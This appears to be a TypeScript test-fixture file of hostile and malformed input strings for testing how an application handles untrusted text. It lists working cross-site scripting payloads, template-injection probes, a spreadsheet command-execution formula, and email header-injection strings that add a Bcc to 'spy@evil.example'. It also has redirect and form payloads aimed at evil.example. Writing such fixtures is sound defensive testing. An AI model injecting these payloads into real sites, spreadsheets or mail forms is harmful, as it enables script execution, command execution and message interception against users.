import { inheritedNames } from '#tests/inherited-names.ts'

/** Calls `hit` of the page, if it runs. */
const HIT = 'window.hit&&window.hit(1)'

const scripts = [
  `<script>${HIT}</script>`,
  `</script><script>${HIT}</script>`,
  `</ScRiPt ><svg onload=${HIT}>`,
  `"><img src=x onerror="${HIT}">`,
  `'><img src=x onerror='${HIT}'>`,
  `<svg/onload=${HIT}>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<a href="javascript:${HIT}">x</a>`,
  `javascript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `<style>@import "javascript:${HIT}"</style>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `--><script>${HIT}</script><!--`,
  `]]><script>${HIT}</script>`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `";${HIT};"`,
  `';${HIT};'`,
  `\`;${HIT};\``,
  `\${${HIT}}`,
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=x>',
]

const templates = [
  '{{constructor.constructor("hit()")()}}',
  `\${7*7}`,
  '<%= 7*7 %>',
  '#{7*7}',
  '%s%s%n%x',
  "$&$1$'",
  '\\',
  '\\x00\\u0000',
]

const letters = [
  '\u202eevil\u202c gnp.exe',
  '\u2066\u2067\u2068\u2069\u200f\u200e\u061c',
  '\u2028line\u2029paragraph',
  `a${'\u0301'.repeat(60)}`,
  '\ufeff\u200b\u200c\u200d\u2060',
  '👩‍❤️‍💋‍👨'.repeat(8),
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿🇱🇰',
  '﷽﷽﷽',
  'ශ්‍රී ලංකා ශ්‍රී',
  'شعر و مكياج',
  'W'.repeat(80),
  'ﬁﬂ\u0130\u0131ẞß',
]

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '=cmd|"/c calc"!A0',
  '=HYPERLINK("https://evil.example")',
]

const mails = [
  'x\r\nBcc: spy@evil.example',
  'x\nBcc: spy@evil.example\n\nhello',
  'x%0d%0aBcc:%20spy@evil.example',
  'x\u2028Bcc: spy@evil.example',
  '=?utf-8?q?Bank?= <x@evil.example>',
  '=?utf-8?b?QmNjOiBzcHlAZXZpbC5leGFtcGxl?=',
  '"x" <spy@evil.example>, y',
  'x; spy@evil.example',
  '.\r\nQUIT\r\n',
]

/** Texts that try to run as something else. At most 200 characters each. */
export const hostileTexts = [...scripts, ...templates, ...letters, ...formulas, ...mails, ...inheritedNames]

/** Texts that a database or an encoding may not accept. */
export const brokenTexts = [
  '\0',
  'a\0b',
  '\ud800',
  'a\udc00b',
  '\ud83d',
  '\u0001\u001f\u007f\u009f',
  '\ufffe\uffff',
  ' \t\r\n ',
  '\u00a0\u3000',
]

/** Texts at and beyond the maximum lengths of fields. */
export const longTexts = [80, 81, 120, 121, 200, 201, 254, 255, 1_000, 1_001, 5_000, 5_001].flatMap(
  length => ['x'.repeat(length), '😀'.repeat(Math.ceil(length / 2)).slice(0, length)],
)

/** A message of maximum length that is one letter with combining marks, which reach far above and below its line. */
export const combiningMarks = `Z${'\u0300\u0489\u0334'.repeat(1_666)}`
